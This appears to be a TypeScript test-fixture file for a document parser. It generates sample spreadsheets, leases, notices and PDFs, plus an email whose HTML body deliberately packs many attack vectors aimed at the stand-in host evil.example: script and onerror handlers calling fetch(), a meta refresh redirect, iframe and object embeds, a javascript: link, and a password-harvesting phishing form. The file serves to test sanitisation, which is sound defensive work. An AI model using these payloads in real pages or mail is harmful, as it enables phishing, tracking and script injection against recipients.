import { readFileSync } from 'node:fs';
import path from 'node:path';
import { makeDocx, paragraph } from '../../backend/src/ports/parser/testing/make/make-docx.js';
import { makeMsg } from '../../backend/src/ports/parser/testing/make/make-msg.js';
import { makeXlsx } from '../../backend/src/ports/parser/testing/make/make-xlsx.js';

const fixture = (name: string): Buffer =>
  readFileSync(path.resolve(import.meta.dirname, '../../backend/src/ports/parser/fixtures', name));

const cell = (reference: string, text: string) => `<c r="${reference}" t="inlineStr"><is><t>${text}</t></is></c>`;
const row = (number: number, ...texts: string[]) =>
  `<row r="${number}">${texts.map((text, at) => cell('ABCDEF'.charAt(at) + number, text)).join('')}</row>`;

/** Rows of the large sheet; the last but nine is the one to be found. */
export const ROWS = 5000;
const NEEDLE_ROW = ROWS - 9;
export const NEEDLE = { words: 'zebra bonds', cell: `B${NEEDLE_ROW}` };

function register(): Buffer {
  const rows = [row(1, 'Register of members'), row(3, 'Holder', 'Class', 'Address')];
  for (let number = 4; number <= ROWS; number++)
    rows.push(
      row(number, `Holder ${number}`, number === NEEDLE_ROW ? 'Zebra bonds' : 'Ordinary', `${number} Harbour Street`),
    );
  return makeXlsx({
    sheets: [
      { name: 'Former', state: 'hidden', rows: row(1, 'Name', 'Left') + row(2, 'A. Byrne', 'by transfer to B. Walsh') },
      { name: 'Members', rows: rows.join(''), merges: ['A1:C1'] },
    ],
  });
}

const EVIL = 'http://evil.example';
/** Everything a mail may try. Each attempt would set `window.ran`, ask another host or leave the page. */
const HOSTILE = `<html><head><meta http-equiv="refresh" content="0;url=${EVIL}/moved"><base href="${EVIL}/"><link rel="stylesheet" href="${EVIL}/a.css">
<style>@import "${EVIL}/b.css"; body { background: url(${EVIL}/c.png) }</style><script>top.ran = window.ran = 1; fetch('${EVIL}/d')</script></head>
<body onload="top.ran = 1"><p style="background-image: url('${EVIL}/e.png'); color: #1d4ed8">The rent is <b>900 euro</b> a month.</p>
<img src="${EVIL}/f.png"><img src="x" onerror="top.ran = 1; fetch('${EVIL}/g')"><img srcset="${EVIL}/h.png 1x">
<svg onload="top.ran = 1"><image href="${EVIL}/i.png"/></svg><iframe src="${EVIL}/j"></iframe><object data="${EVIL}/k"></object>
<a href="javascript:top.ran = 1">the review</a> <a href="${EVIL}/l" target="_top">the letter</a>
<form action="${EVIL}/m"><input name="password"><button>Confirm your password</button></form>
<video src="${EVIL}/n.mp4" autoplay></video><table border="1"><tr><td background="${EVIL}/o.png">Deposit</td><td>1,800 euro</td></tr></table></body></html>`;

/** One file of each format. */
export const FILES: Readonly<Record<string, Buffer>> = {
  'Register of members 2024.xlsx': register(),
  'prices.csv': fixture('csv-semicolon.csv'),
  'rent review.msg': makeMsg({
    subject: 'Rent review',
    from: 'Anna Byrne',
    body: 'The rent is 900 euro a month.\n\nThe deposit is 1,800 euro.',
    html: HOSTILE,
  }),
  'tables.docx': fixture('docx-tables.docx'),
  'lease.docx': makeDocx({
    body: Array.from({ length: 3000 }, (_, at) =>
      paragraph(
        at === 2500
          ? 'The zebra crossing belongs to the landlord.'
          : `Clause ${at + 1} says that the tenant keeps the premises in good repair.`,
      ),
    ).join(''),
  }),
  'notice.txt': Buffer.from(
    'NOTICE\n\nThe Tenant\nmay not assign the Lease\nwithout consent.\n\nThe rent is due on the first day of each month.\n',
  ),
  'normal.pdf': fixture('pdf-two-column.pdf'),
  'rotated.pdf': fixture('pdf-rotated-page-90.pdf'),
  'cropped.pdf': fixture('pdf-cropbox-half-spread.pdf'),
};
